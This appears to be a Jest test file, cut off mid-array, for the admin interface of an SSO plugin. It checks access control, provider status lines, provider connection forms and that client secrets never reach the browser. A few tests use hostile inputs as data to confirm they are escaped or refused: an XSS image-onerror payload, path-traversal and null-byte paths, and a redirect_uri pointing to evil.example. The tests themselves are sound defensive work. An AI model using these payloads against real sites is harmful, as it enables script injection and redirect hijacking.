import { randomUUID } from 'node:crypto'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from '@jest/globals'
import type { Request } from 'express'
import { csvLine } from '../../lib/admin/events-routes.ts'
import { allEnabledFail, providerStatus } from '../../lib/admin/provider-status.ts'
import type { Activity, PortalSsoOptions } from '../../lib/index.ts'
import { presets } from '../../lib/providers/presets/presets.ts'
import type { Check, Provider } from '../../lib/providers/provider.ts'
import { Seal } from '../../lib/shared/seal.ts'
import { Locales, type Say } from '../../lib/web/locale.ts'
import { takeClock } from '../support/clock.ts'
import { cookieCore } from '../support/cookie-core.ts'
import { contoso, contosoDomain, fabrikam, startEntraLookAlike } from '../support/entra-look-alike.ts'
import { type Claims, type FaultyProvider, startFaultyProvider } from '../support/faulty-provider.ts'
import { holdPost } from '../support/held-post.ts'
import { signLogoutToken } from '../support/logout-token.ts'
import { mountDefault, startPortal, type TestPortal, testSecret } from '../support/portal.ts'
import { copyProvider } from '../support/providers.ts'
import { signIn } from '../support/scene.ts'
import { selfSigned } from '../support/self-signed.ts'
import { onward } from '../support/test-sign-in.ts'
import { formIn, type Seen, Visitor } from '../support/visitor.ts'

let provider: FaultyProvider
let other: FaultyProvider
let portal: TestPortal
/** The test host trusts a header, so this visitor needs no session. */
let admin: Visitor

beforeAll(async () => {
  provider = await startFaultyProvider()
  other = await startFaultyProvider({ clientId: 'other' })
})
afterAll(() => Promise.all([provider.close(), other.close()]))
beforeEach(() => {
  provider.reset()
  other.reset()
  admin = new Visitor({ 'x-admin': 'yes' })
})
afterEach(() => portal.close())

type Authorize = (req: Request) => boolean | Promise<boolean>

async function open({
  authorize = (req: Request) => req.get('x-admin') === 'yes',
  ...options
}: Partial<PortalSsoOptions> & { authorize?: Authorize } = {}): Promise<void> {
  portal = await startPortal({
    ...options,
    mount(app, sso) {
      mountDefault(app, sso)
      app.use('/admin/sso', sso.admin({ authorize }))
    },
  })
}

/** Opens a portal with one provider, `acme`. */
async function openWithAcme(options: Parameters<typeof open>[0] = {}): Promise<void> {
  await open(options)
  await portal.connect(provider)
}

const page = (path: string) => admin.get(`${portal.url}/admin/sso${path}`)
const post = (path: string, form: Record<string, string> = {}) =>
  admin.post(`${portal.url}/admin/sso${path}`, form)
/** Posts a form and follows the redirect. */
const done = async (path: string, form: Record<string, string> = {}) => {
  const seen = await post(path, form)
  expect([seen.status, seen.location]).toEqual([303, expect.any(String)])
  return await admin.get(seen.location!)
}
const acme = async () => (await portal.sso.providers.find('acme'))!

/** The visible text of a page, in one line. */
function textOf({ body }: Seen): string {
  return body
    .replace(/<[^>]*>/g, ' ')
    .replace(/&#34;/g, '"')
    .replace(/&#39;/g, "'")
    .replace(/&amp;/g, '&')
    .replace(/\s+/g, ' ')
    .replace(/ (?=[:?])/g, '')
}

const secret = 'the-client-secret-of-a-test'
const entries = (from: FaultyProvider) => ({
  displayName: 'Northwind ID',
  slug: 'northwind',
  issuer: from.issuer,
  clientId: from.clientId,
  clientSecret: from.clientSecret,
})

describe('a request by a non-administrator', () => {
  const paths = [
    '/',
    '/new',
    '/new/generic',
    '/events',
    '/events.csv',
    '/sessions',
    '/sessions/end',
    '/sessions/ending',
    '/sessions/unlink',
    '/providers/test',
    '/acme',
    '/acme/edit',
    '/acme/remove',
    '/acme/what-is-read',
    '/nothing/here/at/all',
  ]

  it.each([
    ['returns false', () => false],
    ['returns nothing', () => undefined as unknown as boolean],
    ['returns a truthy value that is not true', () => 'yes' as unknown as boolean],
    ['rejects', () => Promise.reject(new Error('the directory is away'))],
    [
      'throws',
      () => {
        throw new Error('the directory is away')
      },
    ],
  ])('gets 404 for every path and method when `authorize` %s', async (_what, authorize) => {
    await openWithAcme({ authorize })
    for (const path of paths) {
      const seen = await page(path)
      expect([path, seen.status]).toEqual([path, 404])
      expect(seen.body).toContain('Page not found')
      expect(seen.headers.get('cache-control')).toBe('no-store')
    }
    expect((await post('/acme/disable')).status).toBe(404)
    expect((await acme()).enabled).toBe(true)
    expect(portal.logs.at(-1)!.fields.code).toBe('not_found')
  })

  it('cannot tell an existing page from a missing one', async () => {
    await openWithAcme({ authorize: () => false })
    const plain = (seen: Seen) => textOf(seen).replace(/[2-9A-Z]{8}/, 'REFERENCE')
    expect(plain(await page('/acme'))).toBe(plain(await page('/nope')))
  })

  it.each<[why: string, end: (userId: string) => Promise<unknown>]>([
    ['the session ended', (userId) => portal.sso.sessions.endAll({ userId })],
    ['the user was deactivated', () => portal.knex('sso_users').update({ active: false })],
  ])('is refused if %s before the end of the POST', async (_why, end) => {
    await openWithAcme({ authorize: (req) => req.user !== undefined })
    const { id } = await portal.sso.users.create({ email: 'ada@example.com', name: 'Ada', fields: {} })
    const visitor = new Visitor()
    await signIn({ portal, visitor }, 'acme')
    expect((await visitor.get(`${portal.url}/admin/sso/acme`)).status).toBe(200)
    const continuePost = await holdPost(portal, visitor, '/admin/sso/acme/disable', 'endSessions=no')
    await end(id)
    expect((await continuePost()).statusCode).toBe(404)
    expect((await acme()).enabled).toBe(true)
  })
})

describe('sso.admin', () => {
  it('throws without `authorize`, so that a host cannot omit it by mistake', async () => {
    await open()
    const forgotten = {} as { authorize: Authorize }
    expect(() => portal.sso.admin(forgotten)).toThrow('admin: give `authorize`')
    expect(() => portal.sso.admin(undefined as never)).toThrow('admin: give `authorize`')
  })
})

describe('an admin page', () => {
  it.each(['/%00', '/%00/edit', '/No+Slug', '/..%2facme'])(
    '%s does not exist, and causes no error',
    async (path) => {
      await openWithAcme()
      expect((await page(path)).status).toBe(404)
      expect(portal.logs.filter(({ level }) => level === 'error')).toEqual([])
    },
  )

  it.each([
    '/',
    '/new',
    '/new/generic',
    '/acme',
    '/acme/edit',
    '/acme/disable',
    '/acme/remove',
    '/events',
    '/sessions',
  ])('%s has no inline script or style, cannot be framed and is not cached', async (path) => {
    await openWithAcme()
    const { status, headers, body } = await page(path)
    expect(status).toBe(200)
    const policy = headers.get('content-security-policy')!
    expect(policy).toContain("default-src 'none'")
    expect(policy).toContain("form-action 'self'")
    expect(policy).not.toContain('unsafe')
    expect(headers.get('cache-control')).toBe('no-store')
    expect(body).not.toMatch(/<script(?![^>]*\ssrc=)|<style|\sstyle=|\son\w+=|javascript:/i)
    expect(body).toContain('<html lang="en"')
  })

  it('shows only messages from the fixed list, whatever the URL contains', async () => {
    await openWithAcme()
    expect(textOf(await page('/?done=tested'))).toContain('Tested just now.')
    for (const done of ['You+won', '<b>x</b>', '__proto__', 'constructor', 'toString'])
      expect((await page(`/?done=${encodeURIComponent(done)}`)).body).not.toMatch(/role="status"/)
    expect((await page('/?done=tested&done=saved')).body).not.toMatch(/role="status"/)
  })

  it('links to the path where the host mounted it', async () => {
    portal = await startPortal({
      mount(app, sso) {
        mountDefault(app, sso)
        app.use('/some/where', sso.admin({ authorize: () => true }))
      },
    })
    await portal.connect(provider)
    const { body } = await admin.get(`${portal.url}/some/where/acme`)
    expect(body).toContain('href="/some/where/acme/edit"')
    expect(body).not.toContain('/admin/sso')
  })

  it('shows no provider of another portal', async () => {
    await openWithAcme({ portal: (req) => (req.get('x-portal') as string) ?? 'default' })
    const south = { 'x-portal': 'south' }
    expect((await admin.get(`${portal.url}/admin/sso/`, south)).body).not.toContain('Acme')
    expect((await admin.get(`${portal.url}/admin/sso/acme`, south)).status).toBe(404)
    const seen = await admin.post(`${portal.url}/admin/sso/acme/disable`, {}, south)
    expect([seen.status, (await acme()).enabled]).toEqual([404, true])
  })

  it('escapes text from providers, administrators and refused users', async () => {
    await openWithAcme()
    const markup = '<img src=x onerror=alert(1)>'
    await portal.sso.providers.update('acme', { displayName: `A${markup}` })
    provider.faults.discovery = { token_endpoint_auth_methods_supported: [markup] }
    await post('/acme/test')
    await new Visitor().get(`${portal.url}/login/acme/callback?state=x&error=${encodeURIComponent(markup)}`)
    for (const path of ['/', '/acme', '/acme/edit', '/acme/remove', '/acme/what-is-read', '/events']) {
      const { status, body } = await page(path)
      expect([path, status]).toEqual([path, 200])
      expect(body).not.toContain('<img src=x')
    }
    expect(textOf(await page('/acme'))).toContain('&lt;img src=x')
  })
})

describe('the list of providers', () => {
  it('offers to connect a provider when there is none', async () => {
    await open()
    const { body } = await page('/')
    expect(body).toContain('No provider is connected yet')
    expect(body).toContain('href="/admin/sso/new"')
  })

  it('shows the status and the recent sign-ins of each provider', async () => {
    await openWithAcme()
    await portal.sso.users.create({ email: 'ada@example.com', name: 'Ada', fields: {} })
    await signIn({ portal, visitor: new Visitor() }, 'acme')
    await portal.connect(other, { slug: 'draft', displayName: 'Draft', enabled: false })
    const text = textOf(await page('/'))
    expect(text).toMatch(/Acme acme Working 1 sign-in Last sign-in: \d+ \w+ \d{4}, \d\d:\d\d UTC /)
    expect(text).toMatch(/Draft draft Disabled Sign-in not tested No sign-ins Last sign-in: never /)
    expect((await page('/')).body).toContain('aria-label="Last 30 days: 1 sign-in, 0 failures.')
  })

  it('tests all providers, and explains break-glass access when none works', async () => {
    await openWithAcme()
    await portal.connect(other, { slug: 'other' })
    provider.faults.jwksResponse = { status: 500 }
    expect(textOf(await done('/test'))).toMatch(/Tested just now.*Keys unusable.*No sign-in yet/)
    other.faults.discoveryDrop = true
    const text = textOf(await done('/test'))
    expect(text).toContain('No enabled provider works')
    expect(text).toContain('portal-sso break-glass')
    expect(text).toContain('Cannot be reached')
  })

  it.each([
    [
      'provider',
      /signing out also ends the session at the provider/i,
      'provider: the provider’s session ends, too',
    ],
    [
      'portal',
      /signing out ends only the portal session, as the setting/i,
      'portal: the provider’s session stays',
    ],
    [
      'ask',
      /signing out ends the portal session, and the user chooses whether to sign out at the provider, too/i,
      'ask: the user chooses whether the provider’s session ends, too',
    ],
  ] as const)('shows what signing out really ends, with `logout: %s`', async (logout, check, setting) => {
    await openWithAcme()
    await portal.sso.providers.update('acme', { logout })
    const text = textOf(await page('/acme'))
    expect(text).toMatch(check)
    expect(text).toContain(`Sign-out ends ${setting}`)
    expect(text).not.toMatch(logout === 'provider' ? /chooses whether/ : /also ends the session/)
    expect(textOf(await page('/acme/edit'))).toContain(setting)
  })

  it('moves a provider up and down, and puts the recommended one first', async () => {
    await openWithAcme()
    await portal.connect(other, { slug: 'b', displayName: 'B' })
    await portal.connect(other, { slug: 'c' })
    const order = async () => (await portal.sso.providers.list()).map(({ slug }) => slug)
    await done('/c/move', { direction: 'up', from: 'list' })
    expect(await order()).toEqual(['acme', 'c', 'b'])
    await done('/acme/move', { direction: 'down', from: 'list' })
    expect(await order()).toEqual(['c', 'acme', 'b'])
    // It is already the first.
    await done('/c/move', { direction: 'up', from: 'list' })
    expect(await order()).toEqual(['c', 'acme', 'b'])
    await done('/b/recommend', { from: 'list' })
    expect(await order()).toEqual(['b', 'c', 'acme'])
    expect(textOf(await page('/'))).toMatch(/B Recommended b No sign-in yet/)
    await done('/b/clear-recommended', { from: 'list' })
    expect(await order()).toEqual(['c', 'acme', 'b'])
  })

  it('moves a provider to a position, and refuses one that does not exist', async () => {
    await openWithAcme()
    await copyProvider(portal.knex, 'acme', 4)
    const order = async () => (await portal.sso.providers.list()).map(({ slug }) => slug).join(' ')
    await done('/p4/move', { position: '2', from: 'list' })
    expect(await order()).toBe('acme p4 p1 p2 p3')
    await done('/acme/move', { position: '3', from: 'list' })
    expect(await order()).toBe('p4 p1 acme p2 p3')
    await done('/p4/move', { position: '99', from: 'list' })
    expect(await order()).toBe('p1 acme p2 p3 p4')
    // The recommended one stays first, so the second place is the first of the others.
    await portal.sso.providers.recommend('p3')
    await done('/p4/move', { position: '2', from: 'list' })
    expect(await order()).toBe('p3 p4 p1 acme p2')
    // Those that share a place keep their order.
    await portal.knex('sso_providers').update({ position: 7 })
    expect(await order()).toBe('p3 acme p1 p2 p4')
    await done('/p4/move', { position: '3', from: 'list' })
    expect(await order()).toBe('p3 acme p4 p1 p2')
    for (const position of ['0', '-1', '1.5', 'x', '1e9'])
      expect([position, (await post('/p4/move', { position })).status]).toEqual([position, 422])
    expect(textOf(await post('/p3/move', { position: '2' }))).toContain('is recommended, so it stays first')
    expect(await order()).toBe('p3 acme p4 p1 p2')
    expect(textOf(await page('/events?kind=provider-changed'))).toContain(
      'Moved to position 3 on the login page.',
    )
  })

  it('has a search above ten providers', async () => {
    await openWithAcme()
    await copyProvider(portal.knex, 'acme', 9)
    expect((await page('/')).body).not.toContain('role="search"')
    await portal.connect(other, { slug: 'other', displayName: 'Northwind' })
    expect((await page('/')).body).toContain('role="search"')
    const found = textOf(await page('/?q=northw'))
    expect(found).toContain('Northwind other')
    expect(found).not.toContain('Acme')
  })

  it('shows how far the test of all providers is, on any instance', async () => {
    await openWithAcme()
    const now = () => new Date().toISOString()
    const run = { total: 220, done: 17, started_at: now(), reached_at: now() }
    await portal.knex('sso_tasks').insert({ id: 'test default', ...run })
    await portal.knex('sso_tasks').insert({ id: 'test south', ...run, done: 99 })
    // It is running, perhaps on another instance: join it.
    const seen = await done('/test')
    expect(seen.url).toBe(`${portal.url}/admin/sso/providers/test`)
    expect(textOf(seen)).toContain('17 of 220 providers tested')
    expect(seen.body).toContain('<progress max="220" value="17"')
    expect(seen.body).toContain('http-equiv="refresh" content="2; url=/admin/sso/providers/test"')
    await portal.knex('sso_tasks').where({ id: 'test default' }).update({ done: 220 })
    expect((await page('/providers/test')).location).toContain('/admin/sso/?done=tested')
    // An instance died while it tested.
    await portal
      .knex('sso_tasks')
      .where({ id: 'test default' })
      .update({ done: 17, reached_at: new Date(Date.now() - 61_000).toISOString() })
    expect(textOf(await done('/test'))).toContain('Tested just now.')
    expect(await portal.knex('sso_tasks').where({ id: 'test default' }).first()).toMatchObject({
      total: 1,
      done: 1,
    })
  })

  it('shows the same page of a long list after a move', async () => {
    await openWithAcme()
    await copyProvider(portal.knex, 'acme', 60)
    const { body } = await page('/?q=company&after=p49')
    const [, form = ''] = /action="[^"]*\/p55\/recommend">([\s\S]*?)<button/.exec(body) ?? []
    const fields = [...form.matchAll(/name="(\w+)" value="(\w+)"/g)].map(([, name, value]) => [name, value])
    expect(fields).toEqual([
      ['from', 'list'],
      ['q', 'company'],
      ['after', 'p49'],
    ])
    const { location } = await post('/p55/move', { ...Object.fromEntries(fields), direction: 'up' })
    expect(location).toMatch(/\/\?done=\w+&q=company&after=p49$/)
  })
})

describe('the status of a provider', () => {
  const ready = { enabled: true, testSignInAt: '2026-11-01T00:00:00.000Z' } as Provider
  const options = { locales: {}, defaultLocale: 'en' }
  const reader = new Locales(cookieCore(new Seal([testSecret], 'x')), options).resolve()
  const now = new Date('2026-11-25T12:00:00.000Z')
  const failed = (name: string): Check => ({ name, result: 'failed', message: 'x' })
  const lastTest = (...checks: Check[]) => ({ lastTest: { at: now.toISOString(), checks } })
  const expiring = (clientSecretExpiresAt: string) => ({ clientSecretExpiresAt })
  const used: Activity = {
    lastSignInAt: now.toISOString(),
    signIns: 1,
    consentMissingAt: undefined,
    consentReportedAt: undefined,
    failuresSince: 0,
    lastFailure: undefined,
  }
  const at = '2026-11-25T11:00:00.000Z'
  const health = { since: at, checkedAt: at, endpoint: 'token', fault: 'unreachable' } as const
  const shown = (change: Partial<Provider>, activity: Partial<Activity> | undefined) => {
    const { tone, text, detail } = providerStatus(
      { ...ready, ...change },
      activity && { ...used, ...activity },
      now,
      reader,
    )
    return [tone, text, detail]
  }

  it.each<[string, Partial<Provider>, Partial<Activity> | undefined, (string | undefined)[]]>([
    ['people sign in', {}, {}, ['good', 'Working', undefined]],
    [
      'it is a draft',
      { enabled: false, testSignInAt: undefined },
      undefined,
      ['quiet', 'Disabled', 'Sign-in not tested'],
    ],
    ['it was tested', { enabled: false }, undefined, ['quiet', 'Disabled', 'Tested, ready to enable']],
    ['nobody has signed in', {}, { lastSignInAt: undefined }, ['notice', 'No sign-in yet', undefined]],
    ['it has no events', {}, undefined, ['notice', 'No sign-in yet', undefined]],
    [
      'it cannot be reached',
      lastTest(failed('reached')),
      {},
      ['bad', 'Cannot be reached', 'Tested on 25 Nov 2026, 12:00 UTC, last sign-in 25 Nov 2026, 12:00 UTC'],
    ],
    [
      'its keys are unusable',
      lastTest(failed('keys')),
      undefined,
      ['bad', 'Keys unusable', 'Tested on 25 Nov 2026, 12:00 UTC'],
    ],
    [
      'another check failed',
      lastTest(failed('issuer')),
      { lastSignInAt: at },
      ['bad', 'Test failed', 'Tested on 25 Nov 2026, 12:00 UTC, last sign-in 25 Nov 2026, 11:00 UTC'],
    ],
    [
      'a user signed in after a failed test',
      { lastTest: { at, checks: [failed('reached')] } },
      {},
      ['good', 'Working', undefined],
    ],
    [
      'a probe confirmed an outage',
      { health },
      { lastSignInAt: at },
      [
        'bad',
        'Has problems',
        'The token endpoint cannot be reached. Since 25 Nov 2026, 11:00 UTC, last sign-in 25 Nov 2026, 11:00 UTC',
      ],
    ],
    ['two sign-ins failed', {}, { failuresSince: 2 }, ['good', 'Working', undefined]],
    [
      'three failed in a row',
      {},
      { lastSignInAt: at, failuresSince: 3 },
      ['notice', 'Sign-ins fail', '3 failures since the last sign-in on 25 Nov 2026, 11:00 UTC'],
    ],
    [
      'none has ever passed',
      {},
      { lastSignInAt: undefined, failuresSince: 12 },
      ['notice', 'Sign-ins fail', '12 failures, no sign-in yet'],
    ],
    [
      'an administrator has to consent',
      {},
      { lastSignInAt: undefined, consentMissingAt: at, consentReportedAt: at },
      ['bad', 'Consent missing', 'Since 25 Nov 2026, 11:00 UTC'],
    ],
    [
      'the secret expires in 61 days',
      expiring('2027-01-25T00:00:00.000Z'),
      {},
      ['good', 'Working', undefined],
    ],
    [
      'the secret expires in 60 days',
      expiring('2027-01-24T00:00:00.000Z'),
      {},
      ['good', 'Working', 'Client secret expires in 60 days'],
    ],
    [
      'the secret expires in a day',
      expiring('2026-11-26T00:00:00.000Z'),
      {},
      ['notice', 'Working', 'Client secret expires in 1 day'],
    ],
    [
      'the secret has expired',
      expiring('2026-11-25T00:00:00.000Z'),
      {},
      ['bad', 'Client secret expired', 'Expired on 25 November 2026'],
    ],
    [
      'it is disabled, and its outage is old',
      { health, enabled: false },
      {},
      ['quiet', 'Disabled', 'Tested, ready to enable'],
    ],
    [
      'it will be retired',
      { retireAt: '2026-12-01T00:00:00.000Z' },
      {},
      ['good', 'Working', 'Retires on 1 December 2026'],
    ],
  ])('is one line when %s', (_when, change, activity, status) => {
    expect(shown(change, activity)).toEqual(status)
  })

  it('is in the language of the administrator, with dates', () => {
    const say: Say = (text, values) => JSON.stringify([String(text), values])
    const provider = { ...ready, retireAt: '2026-12-01T00:00:00.000Z' }
    expect(providerStatus(provider, used, now, { lang: 'de', say })).toEqual({
      tone: 'good',
      text: '["Working",null]',
      detail: '["Retires on {{day}}",{"day":"1. Dezember 2026"}]',
    })
  })

  it('counts as "none works" only if every enabled provider fails', () => {
    const of = (change: Partial<Provider>) => providerStatus({ ...ready, ...change }, used, now, reader)
    const bad = lastTest(failed('reached'))
    expect(allEnabledFail([])).toBe(false)
    expect(allEnabledFail([of({ ...bad, enabled: false })])).toBe(false)
    expect(allEnabledFail([of(bad), of({})])).toBe(false)
    expect(allEnabledFail([of(bad), of({ enabled: false })])).toBe(true)
  })
})

describe('connecting a provider', () => {
  it('offers the presets, each with its questions and the URLs to enter at the provider', async () => {
    await open()
    expect(textOf(await page('/new'))).toContain('Microsoft Entra ID')
    const { body } = await page('/new/entra')
    expect(body).toContain('Directory (tenant) ID')
    expect(body).toContain(`value="${portal.url}/login/entra/callback"`)
    expect(body).toContain(`value="${portal.url}/logout/done"`)
    expect(body).toContain(`value="${portal.url}/logout/entra/frontchannel"`)
    // Microsoft has no back-channel logout, and Google has a field for the redirect URI only.
    expect(body).not.toContain(`value="${portal.url}/logout/entra/backchannel"`)
    const google = await page('/new/google')
    expect(google.body.match(/ data-copy="[^"]*"/g)).toEqual([' data-copy="Copy Authorized redirect URI"'])
    expect((await page('/new/nothing')).status).toBe(404)
  })

  it('proposes an unused slug', async () => {
    await open()
    await portal.connect(provider, { slug: 'entra' })
    expect((await page('/new/entra')).body).toContain('name="slug" type="text" value="entra-2"')
  })

  it('saves a provider that passes the test as a draft, hidden from users', async () => {
    await open()
    const seen = await done('/new/generic', { ...entries(provider), act: 'save' })
    expect(seen.url).toBe(`${portal.url}/admin/sso/northwind/test-sign-in?done=connected`)
    expect(textOf(seen)).toContain('Saved as a draft')
    expect(await portal.sso.providers.find('northwind')).toMatchObject({
      enabled: false,
      issuer: provider.issuer,
      clientAuthentication: 'client_secret_basic',
    })
    expect((await new Visitor().get(`${portal.url}/login/northwind`)).status).toBe(404)
  })

  it('only tests, and saves nothing, when the test button was clicked', async () => {
    await open()
    const seen = await post('/new/generic', { ...entries(provider), act: 'test' })
    expect([seen.status, textOf(seen)]).toEqual([200, expect.stringContaining('The test passed')])
    expect(seen.body).toContain('value="Northwind ID"')
    expect(await portal.sso.providers.list()).toEqual([])
  })

  it('shows all errors at once, above the form and at the fields, keeps the entries and saves nothing', async () => {
    await open()
    const seen = await post('/new/generic', {
      displayName: '',
      slug: 'Not A Slug',
      issuer: 'no address',
      clientId: 'the-client-id',
      clientSecret: secret,
      emailDomains: 'example.com, not/a/domain',
      authorizationParameters: 'hd=example.com\nnonsense',
      proxy: 'ftp://proxy.example.com',
      certificateAuthority: 'no certificate',
      clientSecretExpiresAt: 'tomorrow',
      act: 'save',
    })
    expect(seen.status).toBe(422)
    const text = textOf(seen)
    const expected = {
      displayName: 'Fill in “Display name”.',
      slug: 'Write 1 to 40 lower-case letters',
      issuer: 'Enter a full URL such as “https://id.example.com”.',
      emailDomains: '“not/a/domain”: write a domain',
      authorizationParameters: 'Line 2: enter name=value.',
      proxy: 'Write an address such as “http://proxy.example.com:3128”.',
      certificateAuthority: 'Give PEM certificates',
      clientSecretExpiresAt: 'Write a date such as “2027-01-31”.',
    }
    for (const [name, sentence] of Object.entries(expected)) {
      expect([name, text.split(sentence).length - 1]).toEqual([name, 2])
      expect(seen.body).toContain(`href="#field-${name}"`)
      expect(seen.body).toMatch(new RegExp(`id="field-${name}"[^>]*aria-invalid="true"`))
    }
    expect(seen.body).toContain('value="the-client-id"')
    expect(seen.body).toContain('hd=example.com')
    expect(seen.body).not.toContain(secret)
    expect(await portal.sso.providers.list()).toEqual([])
  })

  it.each([
    ['de', '„https://id.example.com“'],
    ['fr', '«\u00a0https://id.example.com\u00a0»'],
    ['nl', '‘https://id.example.com’'],
  ])('quotes an example in a message as usual in %s', async (lang, example) => {
    await open()
    const { body } = await post(`/new/generic?lang=${lang}`, { ...entries(provider), issuer: 'no URL' })
    expect(body).toContain(example)
  })

  it('ignores duplicate entries, and refuses parameters that the plugin sets', async () => {
    await open()
    const twice = await admin.post(`${portal.url}/admin/sso/new/generic`, [
      ...Object.entries(entries(provider)),
      ['slug', 'second'],
    ])
    expect(textOf(twice)).toContain('Write 1 to 40 lower-case letters')
    const reserved = { ...entries(provider), authorizationParameters: 'redirect_uri=https://evil.example' }
    expect(textOf(await post('/new/generic', reserved))).toContain('the plugin sets them itself')
    expect(await portal.sso.providers.list()).toEqual([])
  })

  it.each([
    ['a reserved word as a slug', 'register', 'reserved word'],
    ['a slug in use', 'acme', 'is already connected'],
  ])('refuses %s', async (_what, slug, sentence) => {
    await openWithAcme()
    const seen = await post('/new/generic', { ...entries(other), slug, act: 'save' })
    expect([seen.status, textOf(seen)]).toEqual([422, expect.stringContaining(sentence)])
    expect(await portal.sso.providers.list()).toHaveLength(1)
  })

  it.each<[string, FaultyProvider['faults'], string]>([
    ['that drops the connection', { discoveryDrop: true }, 'Reachable: failed No usable discovery document'],
    ['that responds with HTML', { discoveryResponse: { body: '<html>' } }, 'Reachable: failed No usable'],
    [
      'without usable keys',
      { jwksResponse: { body: '{"keys":[]}' } },
      'Keys: failed The keys cannot be used: the key set contains no usable key for RS256',
    ],
    [
      'that signs with HS256 only',
      { discovery: { id_token_signing_alg_values_supported: ['HS256'] } },
      'Signature: failed The provider does not announce an asymmetric algorithm for ID tokens, only HS256.',
    ],
  ])(
    'shows the failed check and its hint for a provider %s, and saves nothing',
    async (_what, faults, line) => {
      await open()
      Object.assign(provider.faults, faults)
      const seen = await post('/new/generic', { ...entries(provider), act: 'save' })
      expect([seen.status, textOf(seen)]).toEqual([422, expect.stringContaining(line)])
      expect(textOf(seen)).toContain('What to do:')
      expect(seen.body).toContain(`value="${provider.issuer}"`)
      expect(await portal.sso.providers.list()).toEqual([])
    },
  )

  it('asks the questions of the preset, and shows errors in the answers', async () => {
    await open()
    const { displayName, slug, clientId } = entries(provider)
    const seen = await post('/new/entra', { displayName, slug, clientId, 'answer.tenant': 'not a guid' })
    expect(seen.status).toBe(422)
    expect(seen.body).toMatch(/id="field-answer-tenant"[^>]*aria-invalid="true"/)
    const trusting = {
      'answer.tenant': 'organizations',
      trust: 'domains',
      emailDomains: 'contoso.example',
      clientSecret: secret,
    }
    const noAuth = await post('/new/entra', { displayName, slug, clientId, ...trusting, act: 'save' })
    expect(noAuth.status).toBe(422)
    expect(noAuth.body).toMatch(/href="#field-trust"/)
    const missing = await post('/new/entra', { displayName, slug, clientId })
    expect(textOf(missing)).toContain('Fill in “Directory (tenant) ID”.')
  })
})

describe('Entra', () => {
  it('is connected by its tenant, and links to admin consent', async () => {
    const entra = await startEntraLookAlike()
    try {
      await open()
      const { clientId, clientSecret } = entra
      const answers = {
        'answer.tenant': contosoDomain,
        issuer: entra.issuerOf(contosoDomain),
        trust: 'domains',
      }
      const saved = await done('/new/entra', {
        displayName: 'Contoso',
        slug: 'contoso',
        clientId,
        clientSecret,
        ...answers,
        act: 'save',
      })
      expect(textOf(saved)).toContain(`contoso.example belongs to the tenant ${contoso}.`)
      expect(await portal.sso.providers.find('contoso')).toMatchObject({
        issuer: entra.issuerOf(contoso),
        trustsEmail: true,
        emailDomains: ['contoso.example'],
      })
      const { body } = await page('/contoso')
      expect(body).toContain('href="/login/contoso/admin-consent"')
      expect(body).toContain(`value="${portal.url}/login/contoso/admin-consent/callback"`)
      expect(textOf(await page('/contoso/what-is-read'))).toContain('tid, oid')
    } finally {
      await entra.close()
    }
  })
})

it('does not trust the domain of one Entra tenant from the issuer of another', async () => {
  const entra = await startEntraLookAlike()
  try {
    await open()
    const { clientId, clientSecret } = entra
    const fields = { displayName: 'Contoso', slug: 'contoso', clientId, clientSecret, act: 'save' }
    const answers = { 'answer.tenant': contosoDomain, issuer: entra.issuerOf(fabrikam), trust: 'domains' }
    const seen = await post('/new/entra', { ...fields, ...answers })
    expect([seen.status, textOf(seen)]).toEqual([422, expect.stringContaining('Enter at least one domain.')])
    expect(await portal.sso.providers.list()).toEqual([])
  } finally {
    await entra.close()
  }
})

describe('a client secret', () => {
  it('is never sent to a browser, by any page', async () => {
    await open()
    const { clientSecret } = provider
    const shown = [
      await post('/new/generic', { ...entries(provider), displayName: '' }),
      await post('/new/generic', { ...entries(provider), act: 'test' }),
      await done('/new/generic', { ...entries(provider), act: 'save' }),
      await page('/'),
      await page('/northwind/edit'),
      await page('/events'),
      await page('/events.csv'),
      await post('/northwind/edit', { displayName: '', clientSecret, version: '1' }),
      await post('/northwind/edit', { clientSecret, version: '77' }),
    ]
    for (const { body, status } of shown) {
      expect(status).toBeLessThan(500)
      expect(body).not.toContain(clientSecret)
      expect(body).not.toContain(secret)
    }
    expect(JSON.stringify([portal.logs, await portal.knex('sso_events')])).not.toContain(clientSecret)
  })

  it('is kept when its field is empty, and removed only when the checkbox is ticked', async () => {
    await openWithAcme()
    const saved = async () => (await portal.knex('sso_providers').first('client_secret')).client_secret
    const before = await saved()
    const form = { displayName: 'Acme Corp', issuer: provider.issuer, clientId: provider.clientId }
    await done('/acme/edit', { ...form, version: String((await acme()).version) })
    expect([(await acme()).displayName, await saved()]).toEqual(['Acme Corp', before])

    provider.faults.discovery = { token_endpoint_auth_methods_supported: ['client_secret_basic', 'none'] }
    provider.faults.publicClient = true
    const version = String((await acme()).version)
    const without = { ...form, clientAuthentication: 'none', 'remove.clientSecret': 'on', version }
    await done('/acme/edit', without)
    expect([(await acme()).clientAuthentication, await saved()]).toEqual(['none', null])
  })
})

describe('a secret in a form that was rejected', () => {
  const rejected = { displayName: '', clientId: 'portal', slug: 'northwind' }
  const sealedIn = ({ body }: Seen) => /name="kept\.clientSecret" value="([^"]+)"/.exec(body)?.[1]
  const saved = async () => (await portal.sso.providers.list()).map(({ slug }) => slug)
  const form = () => ({ ...entries(provider), clientSecret: '' })

  beforeEach(async () => {
    await open()
    await portal.connect(other)
    await portal.sso.users.create({ email: 'ada@example.com', name: 'Ada', fields: {} })
    // The administrator needs a session, to which the secret is bound.
    await admin.open(`${portal.url}/login/acme`)
  })

  it('is kept, and never shown in plain text', async () => {
    const { clientSecret } = provider
    const seen = await post('/new/generic', { ...rejected, clientSecret })
    const kept = sealedIn(seen)!
    expect([seen.status, seen.body.includes(clientSecret)]).toEqual([422, false])
    expect(textOf(seen)).toContain('Your entries are still here, including the secret.')
    // Also across a second mistake.
    const again = await post('/new/generic', { ...rejected, 'kept.clientSecret': kept })
    await done('/new/generic', { ...form(), 'kept.clientSecret': sealedIn(again)! })
    expect(await saved()).toContain('northwind')
    const { version } = (await portal.sso.providers.find('northwind'))!
    const edited = await post('/northwind/edit', { clientSecret, displayName: '', version: String(version) })
    expect([sealedIn(edited) !== undefined, edited.body.includes(clientSecret)]).toEqual([true, false])
  })

  it.each<[what: string, use: (sealed: string) => Promise<Seen>]>([
    [
      'in another session of the same administrator',
      async (sealed) => {
        admin = new Visitor({ 'x-admin': 'yes' })
        await admin.open(`${portal.url}/login/acme`)
        return await post('/new/generic', { ...form(), 'kept.clientSecret': sealed })
      },
    ],
    ['in another form', (sealed) => post('/new/keycloak', { ...form(), 'kept.clientSecret': sealed })],
    [
      'after it was changed',
